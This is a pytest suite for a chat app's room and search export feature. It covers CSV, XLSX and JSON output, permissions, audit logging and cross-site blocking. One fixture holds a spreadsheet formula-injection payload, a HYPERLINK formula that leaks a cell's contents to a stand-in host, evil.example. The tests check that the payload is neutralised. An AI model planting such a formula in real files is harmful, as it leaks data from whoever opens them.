"""Record exports (exports/): a room as CSV, XLSX and JSON with authors, branches, client
addresses, times, attachments, edits and deleted messages; who may export what; the audit
entry written before the file is sent; formula injection; the room page's export control.
Against the live server, behind a trusted proxy so each client has its own address."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from counterline.accounts.actions import get_user_named
from counterline.audit.models import AuditEntry
from counterline.errors import UserError
from counterline.exports.actions import COLUMNS, check_fits, plan_search_export
from counterline.exports.formats import ExportFormat
from counterline.messages.models import Message
from counterline.search.actions import SearchQuery
from counterline.services import Services
from tests.cast import CHENGBEI, HUAQIAO, Cast
from tests.support.clients import Client, post

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
ORIGINAL, EDITED = "原来的文字：B1E-0D7 待办", "改过的文字：B1E-0D7 已办"
COLUMN_INDEX = {msgid: index for index, (msgid, _) in enumerate(COLUMNS)}


@pytest.fixture
def server(start_server):
    return start_server(trusted_proxies=["127.0.0.1/32"])


def from_address(client: Client, address: str) -> Client:
    client.http.headers["X-Forwarded-For"] = address
    return client


async def export(client: Client, room_id: int, **params: Any) -> httpx.Response:
    return await client.http.get(f"/api/v1/rooms/{room_id}/export", params=params)


async def upload_file(client: Client, name: str, content: bytes) -> int:
    response = await client.http.post(
        "/api/v1/uploads",
        files={"file": (name, content, "text/plain")},
        headers={"X-CSRF-Token": client.csrf_token},
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


async def seed_record(login, cast: Cast) -> dict[str, int]:
    """Wang Fang's messages in the 城北 branch room: plain, a formula, one with an
    attachment, one edited from another address, one deleted."""
    clerk = from_address(await login("wangfang"), "10.0.0.11")
    room = cast.branch_room_ids[CHENGBEI]
    ids = {"plain": await post(clerk, room, "城北今天办理携号转网 B1E-0D7", "export-plain")}
    ids["formula"] = await post(clerk, room, FORMULA, "export-formula")
    upload_id = await upload_file(clerk, "价目表.txt", "套餐价目".encode())
    response = await clerk.http.post(
        f"/api/v1/rooms/{room}/messages",
        json={"body": "附件见价目表", "client_id": "export-file", "attachments": [upload_id]},
        headers={"X-CSRF-Token": clerk.csrf_token},
    )
    assert response.status_code == 201, response.text
    ids["file"] = response.json()["id"]
    ids["edited"] = await post(clerk, room, ORIGINAL, "export-edited")
    from_address(clerk, "10.0.0.12")
    response = await clerk.http.patch(
        f"/api/v1/messages/{ids['edited']}",
        json={"body": EDITED},
        headers={"X-CSRF-Token": clerk.csrf_token},
    )
    assert response.status_code == 200, response.text
    ids["deleted"] = await post(clerk, room, "这条要撤回", "export-deleted")
    response = await clerk.http.delete(
        f"/api/v1/messages/{ids['deleted']}", headers={"X-CSRF-Token": clerk.csrf_token}
    )
    assert response.status_code == 204, response.text
    return ids


def csv_rows(response: httpx.Response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode()), "Excel needs the BOM for Chinese"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response: httpx.Response) -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    sheet = workbook.worksheets[0]
    # Empty values are no cells: a row ends at its last value.
    rows = [
        [*row, *[None] * (len(COLUMNS) - len(row))] for row in sheet.iter_rows(values_only=True)
    ]
    assert next(sheet.iter_rows(max_row=1))[0].font.bold
    workbook.close()
    return rows


def by_id(rows: list[list[Any]]) -> dict[int, dict[str, Any]]:
    """Data rows keyed by message id, each cell by its column's msgid."""
    return {
        int(row[0]): {msgid: row[index] for msgid, index in COLUMN_INDEX.items()}
        for row in rows[1:]
    }


async def test_manager_exports_his_branch_room_as_csv_with_the_whole_record(
    login, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    manager = await login("zhaomin")
    response = await export(manager, cast.branch_room_ids[CHENGBEI], format="csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-export-rows"] == "5"
    rows = csv_rows(response)
    assert rows[0][COLUMN_INDEX["Message text"]] == "消息内容"  # the manager reads Chinese
    record = by_id(rows)
    assert list(record) == sorted(ids.values()), "one row per message, oldest first"
    plain = record[ids["plain"]]
    assert plain["Username"] == "wangfang" and plain["Author"] == "王芳"
    assert plain["Branch"] == CHENGBEI and plain["Client IP"] == "10.0.0.11"
    assert plain["Time"].endswith("+08:00"), "times are in the site's zone"
    assert plain["Message text"] == "城北今天办理携号转网 B1E-0D7"
    assert record[ids["file"]]["Attachments"] == "价目表.txt"
    edited = record[ids["edited"]]
    assert edited["Message text"] == EDITED and edited["Edited at"]
    assert edited["Changes"] == "1"
    assert ORIGINAL in edited["Earlier versions"] and "10.0.0.12" in edited["Earlier versions"]
    deleted = record[ids["deleted"]]
    assert deleted["Message text"] == "这条要撤回"
    assert deleted["Deleted at"] and deleted["Deleted by"] == "wangfang"
    assert record[ids["formula"]]["Message text"] == "'" + FORMULA, "never a live formula"


async def test_xlsx_export_parses_back_with_a_chinese_file_name_and_no_formulas(
    login, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    manager = await login("zhaomin")
    response = await export(manager, cast.branch_room_ids[CHENGBEI], format="xlsx")
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(CHENGBEI)}-" in disposition
    assert disposition.endswith(".xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    formula_cell = next(
        row[COLUMN_INDEX["Message text"]]
        for row in workbook.active.iter_rows(min_row=2)
        if row[0].value == ids["formula"]
    )
    assert formula_cell.data_type == "s" and formula_cell.value == "'" + FORMULA
    record = by_id(xlsx_rows(response))
    assert list(record) == sorted(ids.values())
    assert record[ids["plain"]]["Client IP"] == "10.0.0.11"
    assert record[ids["plain"]]["Branch"] == CHENGBEI
    assert record[ids["edited"]]["Changes"] == 1
    assert ORIGINAL in record[ids["edited"]]["Earlier versions"]
    assert record[ids["deleted"]]["Deleted by"] == "wangfang"


async def test_json_export_keeps_texts_exact_and_nests_every_earlier_version(
    login, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    manager = await login("zhaomin")
    response = await export(manager, cast.branch_room_ids[CHENGBEI], format="json")
    assert response.status_code == 200, response.text
    document = response.json()
    assert document["room"]["name"] == CHENGBEI
    assert document["exported_by"]["username"] == "zhaomin"
    assert document["exported_at"].endswith("+08:00")
    messages = {message["id"]: message for message in document["messages"]}
    assert [message["id"] for message in document["messages"]] == sorted(ids.values())
    assert document["message_count"] == len(messages)
    assert messages[ids["formula"]]["body"] == FORMULA
    plain = messages[ids["plain"]]
    assert plain["author"]["display_name"] == "王芳"
    assert plain["branch"] == {"id": cast.branch_ids[CHENGBEI], "name": CHENGBEI}
    assert plain["client_ip"] == "10.0.0.11" and plain["edits"] == []
    assert messages[ids["file"]]["attachments"] == ["价目表.txt"]
    (edit,) = messages[ids["edited"]]["edits"]
    assert edit["action"] == "edited" and edit["earlier_body"] == ORIGINAL
    assert edit["editor"]["username"] == "wangfang" and edit["editor_ip"] == "10.0.0.12"
    deleted = messages[ids["deleted"]]
    assert deleted["deleted_by"]["username"] == "wangfang" and deleted["deleted_at"]
    assert [each["action"] for each in deleted["edits"]] == ["deleted"]


async def test_date_range_keeps_only_the_days_asked_for(
    login, services: Services, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    async with services.transaction() as unit:
        # Times out of id order: "file" lies between two messages of the range.
        for key, days in (("plain", 10), ("formula", 3), ("file", 10), ("edited", 3)):
            posted = await unit.session.scalar(
                select(Message.created_at).where(Message.id == ids[key])
            )
            assert posted is not None
            await unit.session.execute(
                update(Message)
                .where(Message.id == ids[key])
                .values(created_at=posted - timedelta(days=days))
            )
            if key == "plain":
                plain_day = (posted - timedelta(days=10)).astimezone(services.settings.zone)
    manager = await login("zhaomin")
    room = cast.branch_room_ids[CHENGBEI]
    after = (plain_day.date() + timedelta(days=1)).isoformat()
    before = (plain_day.date() + timedelta(days=8)).isoformat()
    response = await export(manager, room, format="json", after=after, before=before)
    assert response.status_code == 200, response.text
    found = [message["id"] for message in response.json()["messages"]]
    assert found == [ids["formula"], ids["edited"]]
    response = await export(manager, room, format="json", before=after)
    found = [message["id"] for message in response.json()["messages"]]
    assert found == [ids["plain"], ids["file"]]
    response = await export(manager, room, after=before, before=after)
    assert response.status_code == 400 and response.json()["error"]
    response = await export(manager, room, after="2026-13-01")
    assert response.status_code == 422


def test_an_xlsx_export_longer_than_a_sheet_is_refused_and_other_formats_are_not() -> None:
    with pytest.raises(UserError) as refused:
        check_fits(ExportFormat.xlsx, 3, max_rows=2)
    assert refused.value.params == {"max": "2", "rows": "3"}
    check_fits(ExportFormat.xlsx, 2, max_rows=2)
    check_fits(ExportFormat.csv, 3, max_rows=2)


async def test_clerks_and_trainers_may_not_export(login, cast: Cast) -> None:
    for username in ("wangfang", "zhangwei"):
        client = await login(username)
        response = await export(client, cast.company_room_id)
        assert response.status_code == 403, (username, response.text)
        assert response.json()["error"]
        response = await client.http.get("/api/v1/search/export", params={"q": "B1E-0D7"})
        assert response.status_code == 403, (username, response.text)


async def test_manager_exports_what_his_search_finds_and_it_is_recorded(
    login, services: Services, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    elsewhere = from_address(await login("lina"), "10.0.0.51")
    await post(elsewhere, cast.branch_room_ids[HUAQIAO], "花桥也有 B1E-0D7", "export-huaqiao")
    manager = from_address(await login("zhaomin"), "10.0.0.52")
    params = {"q": "B1E-0D7", "format": "json"}
    response = await manager.http.get("/api/v1/search/export", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["x-export-limit"] == "10000"
    assert response.headers["x-export-truncated"] == "false"
    assert f"filename*=UTF-8''{quote('搜索结果')}-" in response.headers["content-disposition"]
    document = response.json()
    assert document["query"]["q"] == "B1E-0D7"
    found = [message["id"] for message in document["messages"]]
    assert found == [ids["plain"], ids["edited"]], "his rooms only, oldest first"
    (edit,) = document["messages"][1]["edits"]
    assert edit["earlier_body"] == ORIGINAL
    response = await manager.http.get("/api/v1/search/export", params={**params, "format": "csv"})
    assert [int(row[0]) for row in csv_rows(response)[1:]] == found
    async with services.reading() as unit:
        entries = list(
            await unit.session.scalars(
                select(AuditEntry)
                .where(AuditEntry.action == "record.exported")
                .order_by(AuditEntry.id)
            )
        )
    assert [entry.details["format"] for entry in entries] == ["json", "csv"]
    for entry in entries:
        assert entry.target == "search" and entry.actor_id == cast["zhaomin"].id
        assert entry.client_ip == "10.0.0.52"
        assert entry.details["q"] == "B1E-0D7" and entry.details["rows"] == 2


async def test_a_search_export_keeps_the_newest_matches_up_to_its_limit(
    login, services: Services, cast: Cast
) -> None:
    ids = await seed_record(login, cast)
    async with services.reading() as unit:
        manager = await get_user_named(unit, "zhaomin")
        query = SearchQuery(zone=services.settings.zone, q="B1E-0D7")
        export = await plan_search_export(unit, manager, query, limit=1)
    assert export.message_ids == [ids["edited"]] and export.truncated


async def test_manager_gets_404_for_rooms_he_is_not_in_and_nothing_is_recorded(
    login, services: Services, cast: Cast
) -> None:
    clerk = await login("lina")
    started = await clerk.http.post(
        "/api/v1/conversations",
        json={"members": ["zhouqiang"]},
        headers={"X-CSRF-Token": clerk.csrf_token},
    )
    conversation = started.json()["id"]
    manager = await login("zhaomin")
    for room in (cast.branch_room_ids[HUAQIAO], conversation, 999_999):
        response = await export(manager, room, format="json")
        assert response.status_code == 404, (room, response.text)
    async with services.reading() as unit:
        recorded = await unit.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "record.exported")
        )
        assert list(recorded) == []


async def test_a_link_on_another_site_cannot_make_a_managers_browser_export(
    login, services: Services, cast: Cast
) -> None:
    manager = await login("zhaomin")
    room = cast.branch_room_ids[CHENGBEI]
    for path, params in ((f"/api/v1/rooms/{room}/export", {}), ("/api/v1/search/export", {})):
        response = await manager.http.get(
            path, params=params, headers={"Sec-Fetch-Site": "cross-site"}
        )
        assert response.status_code == 403, (path, response.text)
    same_site = await export(manager, room, format="json")
    assert same_site.status_code == 200
    async with services.reading() as unit:
        recorded = await unit.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "record.exported")
        )
        assert len(list(recorded)) == 1


async def test_admin_exports_a_conversation_he_is_not_in_and_it_is_recorded_first(
    login, services: Services, cast: Cast
) -> None:
    clerk = from_address(await login("lina"), "10.0.0.21")
    started = await clerk.http.post(
        "/api/v1/conversations",
        json={"members": ["zhouqiang"]},
        headers={"X-CSRF-Token": clerk.csrf_token},
    )
    assert started.status_code == 201, started.text
    conversation = started.json()["id"]
    said = await post(clerk, conversation, "悄悄话：明天调班", "export-dm")
    admin = from_address(await login("chengang"), "10.9.9.9")
    assert (await admin.http.get(f"/api/v1/rooms/{conversation}/messages")).status_code == 404
    url = f"/api/v1/rooms/{conversation}/export"
    async with admin.http.stream("GET", url, params={"format": "json"}) as response:
        assert response.status_code == 200
        async with services.reading() as unit:
            entries = list(
                await unit.session.scalars(
                    select(AuditEntry).where(AuditEntry.action == "record.exported")
                )
            )
        body = json.loads(await response.aread())
    (entry,) = entries
    assert entry.actor_id == cast["chengang"].id
    assert entry.target == f"room:{conversation}"
    assert entry.client_ip == "10.9.9.9"
    assert entry.details["format"] == "json" and entry.details["rows"] == 1
    assert entry.details["room_kind"] == "conversation"
    assert entry.details["exporter_is_member"] is False
    assert body["room"]["kind"] == "conversation"
    (message,) = body["messages"]
    assert message["id"] == said and message["body"] == "悄悄话：明天调班"
    assert message["client_ip"] == "10.0.0.21"


async def test_each_export_is_one_audit_entry_with_its_format_and_filters(
    login, services: Services, cast: Cast
) -> None:
    await seed_record(login, cast)
    manager = from_address(await login("zhaomin"), "10.0.0.31")
    room = cast.branch_room_ids[CHENGBEI]
    for file_format in ("csv", "xlsx"):
        response = await export(manager, room, format=file_format, after="2020-01-01")
        assert response.status_code == 200
    async with services.reading() as unit:
        entries = list(
            await unit.session.scalars(
                select(AuditEntry)
                .where(AuditEntry.action == "record.exported")
                .order_by(AuditEntry.id)
            )
        )
    assert [entry.details["format"] for entry in entries] == ["csv", "xlsx"]
    for entry in entries:
        assert entry.actor_id == cast["zhaomin"].id and entry.target == f"room:{room}"
        assert entry.client_ip == "10.0.0.31"
        assert entry.details["rows"] == 5 and entry.details["after"] == "2020-01-01"
        assert entry.details["before"] is None and entry.details["exporter_is_member"] is True


async def test_a_room_larger_than_a_batch_exports_every_message_once_in_order(
    login, services: Services, cast: Cast
) -> None:
    clerk = await login("wangfang")
    room = cast.branch_room_ids[CHENGBEI]
    posted = [await post(clerk, room, "第一条", "export-first")]
    async with services.transaction() as unit:
        template = await unit.session.get(Message, posted[0])
        assert template is not None
        for number in range(1, 1201):
            unit.session.add(
                Message(
                    room_id=room,
                    author_id=template.author_id,
                    author_branch_id=template.author_branch_id,
                    client_id=f"bulk-{number}",
                    client_ip="10.0.0.40",
                    body=f"批量消息 {number}",
                    body_html=f"<p>批量消息 {number}</p>",
                )
            )
    manager = await login("zhaomin")
    response = await export(manager, room, format="csv")
    rows = csv_rows(response)[1:]
    assert len(rows) == 1201 == int(response.headers["x-export-rows"])
    ids = [int(row[0]) for row in rows]
    assert ids == sorted(set(ids)) and ids[0] == posted[0]
    response = await export(manager, room, format="json")
    assert len(response.json()["messages"]) == 1201


async def test_room_page_shows_the_export_control_to_staff_only(login, cast: Cast) -> None:
    room = cast.branch_room_ids[CHENGBEI]
    manager = await login("zhaomin")
    page = (await manager.http.get(f"/rooms/{room}")).text
    assert 'id="record-export"' in page
    assert f'data-export-url="/api/v1/rooms/{room}/export"' in page
    assert "/static/js/record_export.js" in page
    clerk = await login("wangfang")
    page = (await clerk.http.get(f"/rooms/{room}")).text
    assert 'id="record-export"' not in page and "record_export.js" not in page
